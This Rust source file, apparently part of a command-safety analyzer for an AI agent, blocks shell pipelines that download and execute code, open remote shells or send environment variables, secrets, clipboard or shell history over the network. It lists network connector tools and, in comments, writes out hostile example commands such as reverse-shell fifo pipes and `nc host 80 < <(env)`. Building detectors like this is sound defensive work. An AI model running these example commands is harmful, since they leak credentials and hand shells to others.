//! Pipelines: what a stage does with what the stage before it produced
//! (run it as code, write it out, send it away).

pub(super) use super::pipe_sources::{
    called_body, dumps_env, harvests_secrets, names_secret, reads_clipboard, reads_history,
    traces_wire,
};
use super::stdin_executors::{STATEMENTS, stdin_executor};
use super::*;

/// Programs that connect this machine's standard streams to another one.
const CONNECTORS: &[&str] = &[
    "nc", "ncat", "netcat", "socat", "telnet", "openssl", "cryptcat", "websocat",
];

impl Analyzer<'_> {
    /// Pipes: a shell or interpreter reading its program from another
    /// command's output runs code nobody saw, whatever the source.
    pub(super) fn pipes(&mut self, script: &Script) {
        // `tee >(bash)`, `> >(sh)`: what the command writes runs as code,
        // as if piped into the shell.
        for c in &script.commands {
            let feeds = c
                .argv
                .iter()
                .chain(c.redirects.iter().map(|r| &r.target))
                .filter(|w| w.feeds);
            for w in feeds {
                if let Some(kind) = w
                    .subs
                    .iter()
                    .find_map(|&s| script.commands.get(s).and_then(stdin_executor))
                {
                    self.block(format!(
                        "writes into {kind} through >(…), which runs it as code (blocked whatever the source)"
                    ));
                }
            }
        }
        // `coproc N { nc host port; }; sh <&"${N[0]}"`: a shell reading its
        // commands from a descriptor, on a line that talks to the network.
        let connects = script.commands.iter().any(|x| {
            peeled(&x.argv)
                .first()
                .is_some_and(|w| CONNECTORS.contains(&program_name(&w.text).as_str()))
        });
        for c in &script.commands {
            let from_fd = c
                .redirects
                .iter()
                .any(|r| r.op == "<&" && !matches!(r.target.text.as_str(), "0" | "1" | "2" | "-"));
            if connects
                && from_fd
                && let Some(kind) = stdin_executor(c)
            {
                self.block(format!(
                    "remote shell ({kind} reads commands from a descriptor, on a line that opens a connection)"
                ));
            }
        }
        for c in &script.commands {
            self.secrets_sent_or_kept(c, script);
        }
        self.endless_into_files(script);
        self.project_sent_away(script);
        self.secret_published(script);
        // A trace switched on for the rest of the line (`export
        // GIT_TRACE_CURL=1`, `env GIT_TRACE=1 git …`).
        let traced = script.commands.iter().any(|k| {
            let exported = k
                .argv
                .first()
                .is_some_and(|w| matches!(w.text.as_str(), "export" | "declare" | "typeset"));
            exported && k.assigns.iter().any(|(n, v)| traces_wire(n, v))
                || k.argv.iter().any(|w| {
                    w.text
                        .split_once('=')
                        .is_some_and(|(n, v)| traces_wire(n, &Word::lit(v)))
                })
        });
        // `git notes add -m "$(env)"`, `git commit -m "$(printenv)"`: the
        // environment kept in the repository, for the next push to send.
        for c in &script.commands {
            let argv = peeled(&c.argv);
            let into_repo = argv.first().is_some_and(|w| base_name(&w.text) == "git")
                && argv.iter().skip(1).any(|w| {
                    matches!(
                        w.text.as_str(),
                        "commit" | "notes" | "tag" | "config" | "stash"
                    )
                });
            let env_in_words = argv.iter().any(|w| {
                w.subs
                    .iter()
                    .filter_map(|&k| script.commands.get(k))
                    .any(|k| dumps_env(peeled(&k.argv)) && !super::readonly::names_only(k, script))
            });
            if into_repo && env_in_words {
                self.block("exfiltration (the whole environment written into the repository, for a push to send)");
            }
        }
        // `nc host 80 < <(env)`, `sendmail -t <<EOF … $(printenv) … EOF`:
        // the dump fed in by a redirect or spliced into a here-document.
        for c in &script.commands {
            let argv = peeled(&c.argv);
            let sink = argv
                .first()
                .map(|w| program_name(&w.text))
                .unwrap_or_default();
            let network =
                tables::FETCHERS.contains(&sink.as_str()) || super::captures::is_sender(&sink);
            // (A sign-in reading its token: `gh auth login --with-token <<<
            // "$GITHUB_TOKEN"`, `docker login --password-stdin`.)
            let signs_in = argv.iter().any(|w| {
                matches!(
                    w.text.as_str(),
                    "login" | "--with-token" | "--password-stdin"
                )
            });
            if network && !signs_in && fed_texts(c).any(names_secret_variable) {
                self.block("sends a secret variable over the network (exfiltration)");
            }
            let fed_env = c.redirects.iter().any(|r| {
                let input = match r.op.as_str() {
                    "<" if r.target.procsub => Some(&r.target),
                    "<<" | "<<-" | "<<<" => r.body.as_ref(),
                    _ => None,
                };
                input.is_some_and(|w| {
                    w.subs
                        .iter()
                        .filter_map(|&k| script.commands.get(k))
                        .any(|k| {
                            dumps_env(peeled(&k.argv)) && !super::readonly::names_only(k, script)
                        })
                })
            });
            if network && fed_env {
                self.block("sends the environment over the network (exfiltration)");
            }
        }
        for c in &script.commands {
            let Some(from) = c.stdin_from else { continue };
            let src = &script.commands[from];
            let what = src
                .argv
                .first()
                .map(|w| shown(&base_name(&w.text)))
                .unwrap_or_else(|| "a command".into());
            if let Some(kind) = stdin_executor(c)
                && !self.ed_edits(&kind, src, c)
            {
                // The pipe's whole chain: `curl … | sed 1d | sh` still downloads.
                let mut origin = self.producer(src);
                let mut k = src.stdin_from;
                while let Some(i) = k {
                    if origin == Producer::Net {
                        break;
                    }
                    let p = self.producer(&script.commands[i]);
                    if p != Producer::Other {
                        origin = p;
                    }
                    k = script.commands[i].stdin_from;
                }
                // A compressed dump restored (`gunzip -c dump.sql.gz | psql
                // app`): the statements are the file's, only unpacked.
                let unpacked = kind.ends_with(STATEMENTS) && decompresses(src);
                match origin {
                    Producer::Net => self.block(format!(
                        "download and execute (pipes the output of {what} into {kind})"
                    )),
                    Producer::Decode if unpacked => {
                        self.ask(format!("pipes the output of {what} into {kind}"));
                    }
                    Producer::Decode => self.block(format!(
                        "decodes and executes (pipes the output of {what} into {kind})"
                    )),
                    // A script fed to another machine's shell is that
                    // machine's; only code from the network or a decoder blocks.
                    // A database's statements are the project's data load
                    // (`cat seed.sql | psql app`).
                    Producer::Other if kind.ends_with("remote shell") || kind.ends_with(STATEMENTS) => {
                        self.ask(format!("pipes the output of {what} into {kind}"));
                    }
                    Producer::Other => match visible_code(src) {
                        // `echo '4 k 22 7 / p' | dc`: the code is on the line,
                        // judged as it would be given with `-c`.
                        Some(text) if self.judge_fed_code(&kind, &text) => {
                            self.ask(format!("pipes the output of {what} into {kind}"));
                        }
                        _ => self.block(format!(
                            "pipes the output of {what} into {kind}, which runs it as code (blocked whatever the source; run the file directly instead)"
                        )),
                    },
                }
            }
            let sink_argv = peeled(&c.argv);
            let sink = sink_argv
                .first()
                .map(|w| program_name(&w.text))
                .unwrap_or_default();
            // `sh < fifo | nc host port > fifo`: a shell whose output goes
            // to a connection is a shell handed to the other end.
            if let Some(kind) = stdin_executor(src)
                && CONNECTORS.contains(&sink.as_str())
            {
                self.block(format!(
                    "remote shell ({kind} reading commands, its output sent through {sink})"
                ));
            }
            let network_sink = tables::FETCHERS.contains(&sink.as_str())
                || super::captures::is_sender(&sink)
                || sink_argv
                    .iter()
                    .any(|w| w.text.starts_with("http://") || w.text.starts_with("https://"))
                || names_far_host(sink_argv);
            let clipboard_sink = writes_clipboard(sink_argv);
            let mut k = Some(from);
            while let Some(i) = k {
                let stage = &script.commands[i];
                // A function called in the pipe writes what its body does.
                for p in std::iter::once(stage).chain(called_body(script, stage)) {
                    let pa = super::env_runners::deep_peeled(&p.argv);
                    // `printf '%s' "$(env)" | nc …`: the dump spliced into a word.
                    // (`env | cut -d= -f1 | …` passes on names only.)
                    // (Names only for display: a value with new lines passes cut
                    // whole, so to the network the dump counts whatever follows.)
                    let dumps_env = dumps_env(pa)
                        && (network_sink || !super::readonly::names_only(p, script))
                        || pa.iter().chain(fed_texts(p)).any(|w| {
                            w.subs
                                .iter()
                                .filter_map(|&s| script.commands.get(s))
                                .any(|s| dumps_env(peeled(&s.argv)))
                        });
                    // `cat <<< "$AWS_SECRET_ACCESS_KEY" | mail …`.
                    if network_sink && fed_texts(p).any(names_secret_variable) {
                        self.block("sends a secret variable over the network (exfiltration)");
                    }
                    let reads_state = self.sensitive.contains(&(std::ptr::from_ref(p) as usize));
                    // (`base64 release.jks | gh secret set KEYSTORE`: a secret
                    // handed to the store made for it.)
                    let into_store = sink_argv
                        .first()
                        .is_some_and(|w| program_name(&w.text) == "gh")
                        && sink_argv.get(1).is_some_and(|w| w.text == "secret")
                        && sink_argv.get(2).is_some_and(|w| w.text == "set")
                        && !sink_argv.iter().any(|w| {
                            matches!(w.text.as_str(), "-R" | "--repo" | "-o" | "--org")
                                || w.text.starts_with("-R")
                                || w.text.starts_with("--repo=")
                                || w.text.starts_with("--org=")
                        });
                    if network_sink
                        && !into_store
                        && (harvests_secrets(pa) || prints_named_secret(pa))
                    {
                        self.block(
                            "collects secrets and sends them over the network (exfiltration)",
                        );
                    }
                    if network_sink && reads_clipboard(pa) {
                        self.block("sends the clipboard over the network (exfiltration: it often holds a password or a token)");
                    }
                    // (kitty is also a wrapper: `kitty @ …` peels to `@`.)
                    if network_sink
                        && (super::pipe_sources::reads_terminal(pa)
                            || super::pipe_sources::reads_terminal(&p.argv))
                    {
                        self.block("sends what a terminal shows over the network (exfiltration: passwords typed at prompts and tokens tools printed are on it)");
                    }
                    if network_sink && super::pipe_sources::reads_prompted_secret(pa) {
                        self.block("sends a password typed into a prompt over the network (a fake password dialog)");
                    }
                    if network_sink && reads_history(pa) {
                        self.block("sends the shell's history over the network (exfiltration: typed passwords and tokens are in it)");
                    }
                    // Infrastructure outputs hold passwords and keys (`terraform
                    // output -json`, `pulumi stack output --show-secrets`).
                    let outputs = {
                        let w: Vec<String> = pa.iter().map(|w| lower(&w.text)).collect();
                        let b = w.first().map(|x| base_name(x)).unwrap_or_default();
                        // The state itself holds every resource's secrets
                        // (`terraform state pull`, `show -json`).
                        let tf = matches!(b.as_str(), "terraform" | "tofu" | "terragrunt");
                        // (Past `-chdir=DIR`, which only says where.)
                        let w: Vec<String> = w
                            .into_iter()
                            .filter(|x| !x.starts_with("-chdir="))
                            .collect();
                        tf && w.get(1).is_some_and(|x| x == "output")
                            || tf
                                && w.get(1).is_some_and(|x| x == "state")
                                && w.get(2).is_some_and(|x| x == "pull")
                            || tf
                                && w.get(1).is_some_and(|x| x == "show")
                                && w.iter().any(|x| x == "-json")
                            || b == "pulumi" && w.iter().any(|x| x == "--show-secrets")
                            || b == "pulumi"
                                && w.iter().any(|x| x == "export")
                                && w.iter().any(|x| x == "stack")
                    };
                    if network_sink && outputs {
                        self.block("sends infrastructure outputs or state (passwords and keys among them) over the network (exfiltration)");
                    }
                    // A trace of a program's own network traffic (`GIT_TRACE_CURL=1
                    // git push 2>&1 | curl …`): its headers carry the tokens.
                    if network_sink && (traced || p.assigns.iter().any(|(n, v)| traces_wire(n, v)))
                    {
                        self.block("sends a trace of network traffic, its tokens with it, over the network (exfiltration)");
                    }
                    // The clipboard is every desktop app's to read (and to
                    // paste into a chat): the environment put there is out.
                    if clipboard_sink
                        && (dumps_env
                            || harvests_secrets(pa)
                            || prints_named_secret(pa)
                            || fed_texts(p).any(names_secret_variable))
                    {
                        self.block(format!(
                            "puts {} on the clipboard, where every desktop app reads it",
                            if dumps_env {
                                "the environment"
                            } else {
                                "secrets"
                            }
                        ));
                    }
                    if network_sink && (dumps_env || reads_state) {
                        self.block(format!(
                            "sends {} over the network (exfiltration)",
                            if dumps_env {
                                "the environment"
                            } else {
                                "Jarvis's own state"
                            }
                        ));
                    }
                    if dumps_env
                        && matches!(
                            sink.as_str(),
                            "grep" | "egrep" | "rg" | "awk" | "sed" | "findstr" | "select-string"
                        )
                        && sink_argv.iter().skip(1).any(|w| {
                            let l = lower(&w.text);
                            [
                                "key", "token", "secret", "pass", "auth", "cred", "aws", "private",
                            ]
                            .iter()
                            .any(|s| l.contains(s))
                        })
                    {
                        self.block("searches the environment for secrets");
                    }
                }
                k = stage.stdin_from;
            }
            if matches!(sink.as_str(), "iex" | "invoke-expression") {
                self.block("pipes text into Invoke-Expression (download and execute)");
            }
            if sink == "remove-item" && src.argv.iter().any(|w| lower(&w.text) == "-recurse") {
                // Filtered (`-Filter *.log`) inside the project, it deletes
                // what the filter names; unfiltered, or from home or the
                // root, everything below.
                let words: Vec<String> = src.argv.iter().map(|w| lower(&w.text)).collect();
                let filtered = words
                    .iter()
                    .any(|w| matches!(w.as_str(), "-filter" | "-include" | "-name"));
                let place = words
                    .iter()
                    .position(|w| w == "-path" || w == "-literalpath")
                    .and_then(|i| words.get(i + 1))
                    .or_else(|| {
                        words
                            .iter()
                            .skip(1)
                            .find(|w| !w.starts_with('-') && !w.contains('*'))
                    })
                    .cloned()
                    .unwrap_or_else(|| ".".into());
                let outside = place.starts_with(['/', '~', '\\', '$'])
                    || place.contains(':')
                    || place.starts_with("..");
                if !filtered || outside {
                    self.block("deletes everything a recursive listing finds");
                }
                self.ask("deletes the files a filtered recursive listing finds");
            }
        }
    }
}

/// A stage that prints a file named for secrets (`cat config/secrets.env`,
/// `ssh host 'cat /etc/app/api_tokens.json'`): a file's name is all the
/// line says of what it holds, and this one says secrets.
fn prints_named_secret(pa: &[Word]) -> bool {
    let Some(first) = pa.first() else {
        return false;
    };
    let b = program_name(&first.text);
    let printer = matches!(
        b.as_str(),
        "cat"
            | "head"
            | "tail"
            | "less"
            | "more"
            | "base64"
            | "xxd"
            | "gzip"
            | "tar"
            | "zip"
            | "ssh"
            | "autossh"
            | "kubectl"
            | "oc"
            | "docker"
            | "podman"
    );
    // `yq '.mqtt.password' config.yaml`: a query that picks secrets' values.
    let query = matches!(
        b.as_str(),
        "jq" | "yq" | "gojq" | "jaq" | "dasel" | "tomlq" | "xq" | "jp"
    ) && (query_filter(&pa[1..]).is_some_and(picks_secret)
        // (Or a secrets file queried: Traefik's `acme.json` holds keys.)
        || pa[1..].iter().any(|w| !w.text.starts_with('-') && paths::secret_file_name(&w.text)));
    query
        || printer
            && pa[1..]
                .iter()
                .flat_map(|w| w.text.split_whitespace())
                .any(|t| {
                    let path = lower(t.trim_matches(['\'', '"']));
                    let base = path.rsplit('/').next().unwrap_or(&path);
                    // (A tokenizer's vocabulary is no token; a sample no secret.)
                    let not_secret = ["example", "sample", "template", "dist", "tokeniz"]
                        .iter()
                        .any(|s| base.contains(s));
                    // Any name in a secrets folder (`/run/secrets/db`,
                    // Kubernetes' `serviceaccount/token`), or a file named so.
                    let in_store = path.contains("secrets/") || path.contains("serviceaccount/");
                    let named = base.contains('.')
                        && [
                            "secret",
                            "credential",
                            "password",
                            "passwd",
                            "token",
                            "apikey",
                            "api_key",
                        ]
                        .iter()
                        .any(|k| base.contains(k));
                    // (Keystores and signing passwords by their kind.)
                    !base.is_empty()
                        && !not_secret
                        && (in_store || named || paths::secret_file_name(&path))
                })
}

/// A program told of another machine: a URL to it (`nats://HOST`), or a
/// host option naming it (`mosquitto_pub -h HOST`, `--server=HOST`).
fn names_far_host(argv: &[Word]) -> bool {
    const HOST_OPTIONS: &[&str] = &["-h", "--host", "-s", "--server", "-H", "--broker", "--url"];
    let far = |t: &str| {
        let t = t.trim_matches(['\'', '"']);
        super::project_out::far_host(t.split_once("://").map_or(t, |(_, r)| r)).is_some()
    };
    if argv
        .iter()
        .skip(1)
        .any(|w| w.text.contains("://") && far(&w.text))
    {
        return true;
    }
    // (Most commands name no host option: they leave here.)
    if !argv.iter().skip(1).any(|w| {
        HOST_OPTIONS
            .iter()
            .any(|o| w.text == *o || o.starts_with("--") && eq_value(&w.text, o).is_some())
    }) {
        return false;
    }
    // A text tool's `-h`, `-s`, `-H` are its own (`grep -h`, `sort -s`).
    let text_tool = argv
        .first()
        .is_none_or(|w| tables::read_only(&program_name(&w.text)).is_some());
    // A host, not a word: a dotted name, an address, a port.
    let hostlike = |t: &str| !t.starts_with('-') && !t.contains('/') && t.contains(['.', ':']);
    argv.iter()
        .skip(1)
        .any(|w| w.text.contains("://") && far(&w.text))
        || !text_tool
            && argv.windows(2).skip(1).any(|p| {
                HOST_OPTIONS.contains(&p[0].text.as_str())
                    && hostlike(&p[1].text)
                    && far(&p[1].text)
            })
        || !text_tool
            && argv.iter().skip(1).any(|w| {
                HOST_OPTIONS
                    .iter()
                    .filter(|o| o.starts_with("--"))
                    .any(|o| eq_value(&w.text, o).is_some_and(|v| hostlike(v) && far(v)))
            })
}

/// A decompressor writing what it unpacks (`zcat f.gz`, `gzip -dc f.gz`).
fn decompresses(c: &Command) -> bool {
    let argv = peeled(&c.argv);
    let Some(first) = argv.first() else {
        return false;
    };
    let b = program_name(&first.text);
    matches!(
        b.as_str(),
        "gunzip"
            | "zcat"
            | "gzcat"
            | "bzcat"
            | "bunzip2"
            | "xzcat"
            | "unxz"
            | "zstdcat"
            | "unzstd"
            | "lz4cat"
    ) || matches!(
        b.as_str(),
        "gzip" | "bzip2" | "xz" | "zstd" | "lz4" | "pigz"
    ) && argv[1..]
        .iter()
        .any(|w| w.text == "--decompress" || short_flags(&w.text).is_some_and(|f| f.contains('d')))
}

/// `cat` with no file: a substitution that reads the pipe.
pub(super) fn reads_stdin_only(c: &Command) -> bool {
    c.argv.len() == 1 && matches!(c.argv[0].text.as_str(), "cat" | "head" | "tee")
}

/// The text `echo`/`printf` print when every word is a literal with no
/// escapes in it: code that can be read on the line.
fn visible_code(src: &Command) -> Option<String> {
    let argv = peeled(&src.argv);
    let first = argv.first()?;
    if !matches!(program_name(&first.text).as_str(), "echo" | "printf")
        || argv
            .iter()
            .any(|w| w.dynamic || w.computed || w.text.contains('\\'))
        || !src.redirects.is_empty()
    {
        return None;
    }
    let words: Vec<&str> = argv[1..]
        .iter()
        .map(|w| w.text.as_str())
        .skip_while(|t| t.starts_with('-'))
        .collect();
    Some(words.join(" "))
}

impl Analyzer<'_> {
    /// Code on the line fed to a calculator: judged for its shell escape;
    /// false for other programs (a shell or an interpreter fed through a
    /// pipe is blocked whatever it is fed: the red-team sets hold that).
    fn judge_fed_code(&mut self, kind: &str, text: &str) -> bool {
        if matches!(kind, "dc" | "bc") {
            // dc's `!` runs the rest of its line as a shell command (`!<`,
            // `!=`, `!>` are comparisons).
            for line in text.lines() {
                for (i, _) in line.match_indices('!') {
                    let rest = &line[i + 1..];
                    if !rest.starts_with(['<', '=', '>']) {
                        self.script(rest, &[], 1);
                    }
                }
            }
        } else {
            return false;
        }
        true
    }
}

impl Analyzer<'_> {
    /// The environment, the history or the clipboard, computed into a
    /// network program's words (`curl -d "e=$(env | base64)"`), or the
    /// environment kept in a file (`env | sort > env.txt`, which the next
    /// command may read or commit).
    fn secrets_sent_or_kept(&mut self, c: &Command, script: &Script) {
        // Everything up a pipe, from a command: what its output is made of.
        let chain = |start: usize| {
            let mut out = Vec::new();
            let mut k = Some(start);
            while let Some(i) = k.filter(|_| out.len() < 16) {
                let Some(x) = script.commands.get(i) else {
                    break;
                };
                out.push(x);
                out.extend(called_body(script, x));
                k = x.stdin_from;
            }
            out
        };
        let argv = peeled(&c.argv);
        // A fetcher or sender, or any program told of another machine.
        let network = argv.first().is_some_and(|w| {
            let b = program_name(&w.text);
            tables::FETCHERS.contains(&b.as_str()) || super::captures::is_sender(&b)
        }) || names_far_host(argv);
        if network {
            let computed = argv
                .iter()
                .flat_map(|w| w.subs.iter().copied())
                .flat_map(chain)
                .map(|x| peeled(&x.argv));
            for pa in computed {
                if dumps_env(pa)
                    || reads_history(pa)
                    || reads_clipboard(pa)
                    || super::pipe_sources::reads_terminal(pa)
                {
                    self.block(
                        "exfiltration (the environment, the shell's history, a terminal's text or the clipboard is sent over the network)",
                    );
                }
            }
        }
        // Standard output into a file (`2>` is the errors).
        let to_file = c.redirects.iter().any(Redirect::stdout_to_file)
            || argv
                .first()
                .is_some_and(|w| base_name(&w.text) == "tee" && argv.len() > 1);
        if to_file {
            let own = script.commands.iter().position(|x| std::ptr::eq(x, c));
            if own.is_some_and(|i| chain(i).iter().any(|x| dumps_env(peeled(&x.argv)))) {
                self.block("writes the whole environment, its tokens with it, into a file");
            }
        }
    }
}

impl Analyzer<'_> {
    /// `printf '%s\n' '/^FROM/s/18/20/' w q | ed -s Dockerfile`: ed given
    /// edit commands the line spells out, none of them a `!` that runs a
    /// shell. Its `w FILE` writes are judged; the file it opens is judged
    /// as written where ed is.
    fn ed_edits(&mut self, kind: &str, src: &Command, ed: &Command) -> bool {
        if !matches!(kind, "ed" | "red") {
            return false;
        }
        let Some(text) = crate::policy::shell::eval::printed(src) else {
            return false;
        };
        if text.contains('!') {
            return false;
        }
        for line in text.lines().map(str::trim) {
            // `r FILE` reads another file into the buffer; `e FILE` opens it.
            let body =
                line.trim_start_matches(|ch: char| ch.is_ascii_digit() || ",$.".contains(ch));
            if let Some(f) = ["r ", "e ", "E "].iter().find_map(|p| body.strip_prefix(p)) {
                let f = super::script_opts::expanded(f.trim());
                self.read_path(&f, ed.cwd.as_deref());
            }
            // `1,$w FILE`, `.W FILE`, `f FILE` (then `w`): each names a file written.
            if let Some(f) = body
                .strip_prefix("w ")
                .or_else(|| body.strip_prefix("W "))
                .or_else(|| body.strip_prefix("wq "))
                .or_else(|| body.strip_prefix("f "))
            {
                let f = super::script_opts::expanded(f.trim());
                self.write_path(&f, ed.cwd.as_deref(), "ed");
            }
        }
        true
    }
}

/// The here-documents and here-strings a command is fed.
fn fed_texts(c: &Command) -> impl Iterator<Item = &Word> {
    c.redirects
        .iter()
        .filter(|r| matches!(r.op.as_str(), "<<" | "<<-" | "<<<"))
        .filter_map(|r| r.body.as_ref())
}

/// A text that expands a secret variable (`$AWS_SECRET_ACCESS_KEY`,
/// `${GITHUB_TOKEN}`), unless it was quoted to stay literal.
fn names_secret_variable(w: &Word) -> bool {
    w.dynamic
        && w.text.split('$').skip(1).any(|rest| {
            let name: String = rest
                .trim_start_matches('{')
                .chars()
                .take_while(|ch| ch.is_ascii_alphanumeric() || *ch == '_')
                .collect();
            name.len() > 3 && super::effects::secret_var(&name)
        })
}

/// A program that puts its input on the clipboard (`xclip` and `xsel`
/// unless told to print it, `wl-copy`, `copyq add -`).
fn writes_clipboard(argv: &[Word]) -> bool {
    let Some(first) = argv.first() else {
        return false;
    };
    let args = || argv[1..].iter().map(|w| w.text.as_str());
    match program_name(&first.text).as_str() {
        // xclip's options are words (`-selection`), `-o` abbreviates `-out`.
        "xclip" => !args().any(|a| matches!(a, "-o" | "-ou" | "-out")),
        "xsel" => {
            !args().any(|a| a == "--output" || short_flags(a).is_some_and(|b| b.contains('o')))
        }
        "wl-copy" | "pbcopy" | "clip" | "termux-clipboard-set" | "gpaste-client" => true,
        "copyq" => args().any(|a| matches!(a, "add" | "copy" | "write" | "insert")),
        _ => false,
    }
}

impl Analyzer<'_> {
    /// `wl-copy "$(env)"`, `copyq add "$GITHUB_TOKEN"`: the environment or a
    /// secret variable handed to the clipboard in the words themselves.
    pub(super) fn clipboard_words(&mut self, c: &Cmd<'_>) {
        let qdbus = c.lb == "qdbus" && c.args.iter().any(|a| a.contains("setClipboardContents"));
        if !(writes_clipboard(&c.words) || qdbus) {
            return;
        }
        let bodies = c.src.redirects.iter().filter_map(|r| r.body.as_ref());
        let leaks = c.words[1..].iter().chain(bodies).any(|w| {
            w.subs
                .iter()
                .filter_map(|&i| c.script.commands.get(i))
                .any(|k| dumps_env(peeled(&k.argv)) || harvests_secrets(peeled(&k.argv)))
                || w.dynamic
                    && super::effects::dollar_names(&w.text)
                        .iter()
                        .any(|n| super::effects::secret_var(n))
        });
        if leaks {
            self.block("puts the environment or a secret on the clipboard, where every desktop app reads it");
        }
    }
}

/// A jq-like program's filter: past yq's `eval`, options and their values
/// (`--arg NAME VALUE`, `-o json`).
fn query_filter(args: &[Word]) -> Option<&str> {
    let mut i = 0;
    while let Some(w) = args.get(i) {
        let t = w.text.as_str();
        match t {
            "eval" | "e" | "eval-all" | "ea" if i == 0 => i += 1,
            "--arg" | "--argjson" | "--slurpfile" | "--rawfile" => i += 3,
            "--indent" | "-o" | "--output-format" | "-p" | "--input-format" | "-I" => i += 2,
            // A filter from a file: its text is not on the line.
            "-f" | "--from-file" => return None,
            _ if t.starts_with('-') => i += 1,
            _ => return Some(t),
        }
    }
    None
}

/// A filter that picks a field named for a secret's value (`.mqtt.password`,
/// `.accessToken`, `.network_key`), not one about it (`.password_min_length`).
fn picks_secret(filter: &str) -> bool {
    const ENDS: &[&str] = &[
        "password",
        "passwd",
        "secret",
        "token",
        "apikey",
        "api_key",
        "privatekey",
        "private_key",
        "secret_key",
        "secretkey",
        "access_key",
        "accesskey",
        "network_key",
        "credentials",
        "passphrase",
    ];
    filter
        .to_ascii_lowercase()
        .split(|ch: char| !(ch.is_ascii_alphanumeric() || ch == '_'))
        .any(|k| ENDS.iter().any(|e| k.ends_with(e)))
}
